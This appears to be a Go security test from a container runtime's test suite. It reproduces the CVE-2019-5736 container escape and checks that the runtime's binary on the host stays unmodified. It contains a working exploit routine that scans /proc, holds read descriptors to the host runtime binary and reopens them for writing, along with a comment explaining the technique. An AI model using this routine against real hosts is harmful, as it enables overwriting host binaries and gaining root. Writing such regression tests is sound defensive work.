package attacks

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"
)

// overwriteRuntime: CVE-2019-5736.
//
// `exec` starts the runtime's own binary inside of the container, and there /proc/PID/exe leads to the file on the host. While
// it is executed nobody can write to it (ETXTBSY). But a process of the container can open it for reading, keep the descriptor until
// the runtime has ended, and then open that for writing, through /proc/self/fd/N. From then on the host's root runs what
// the attacker wrote, with the next container. It helps the attacker to make the program that is to be executed a script that begins with
// "#!/proc/self/exe": so the runtime's binary becomes the container's program, which everybody in there may look at.
//
// Runc executes a copy of itself in memory, or a read-only view. Here it is a view that belongs to no mount namespace:
// namespace.Seal. Let it return an O_PATH descriptor of /proc/self/exe, and the attack succeeds.
func overwriteRuntime(a *arena) string {
	copied := filepath.Join(a.t.TempDir(), "jocker-runtime")
	copyFile(a.t, a.runtime.Path, copied)
	before, err := os.ReadFile(copied)
	require.NoError(a.t, err)
	bundle, root := a.bundle("", attacker("overwrite"))
	require.NoError(a.t, os.WriteFile(filepath.Join(root, "script"), []byte("#!/proc/self/exe\n"), 0o755))
	id := a.inside(bundle)

	victim := a.runtime
	victim.Path = copied
	captured := false
	for i := 0; i < 200 && (!captured || i < a.rounds); i++ {
		victim.Run(a.t, "exec", id, "/script")
		if out, _ := os.ReadFile(filepath.Join(bundle, "stdout")); strings.Contains(string(out), "captured") {
			captured = true
		}
	}
	require.True(a.t, captured, "the attacker has never seen the runtime's binary")
	time.Sleep(100 * time.Millisecond) // for it to go on trying when nobody executes the file any more
	after, err := os.ReadFile(copied)
	require.NoError(a.t, err)
	if !bytes.Equal(before, after) {
		return fmt.Sprintf("the runtime on the host begins with %.20q", after)
	}
	return ""
}

// overwriter is in the container. It opens each binary that is executed there and is not its own, and tries to write to it.
func overwriter() {
	own := inode("/proc/self/exe")
	var held []int
	for {
		names, _ := os.ReadDir("/proc")
		for _, n := range names {
			path := "/proc/" + n.Name() + "/exe"
			if n.Name()[0] < '0' || n.Name()[0] > '9' || inode(path) == own {
				continue
			}
			if fd, err := unix.Open(path, unix.O_RDONLY, 0); err == nil && len(held) < 100 {
				held = append(held, fd)
				fmt.Println("captured")
			} else if err == nil {
				unix.Close(fd)
			}
		}
		for _, fd := range held {
			path := fmt.Sprintf("/proc/self/fd/%d", fd)
			if w, err := unix.Open(path, unix.O_WRONLY, 0); err == nil {
				unix.Write(w, []byte("#!/bin/sh\n: the attacker's\n"))
				unix.Close(w)
			}
		}
	}
}

func inode(path string) (id [2]uint64) {
	var st unix.Stat_t
	if unix.Stat(path, &st) == nil {
		id = [2]uint64{uint64(st.Dev), st.Ino}
	}
	return id
}
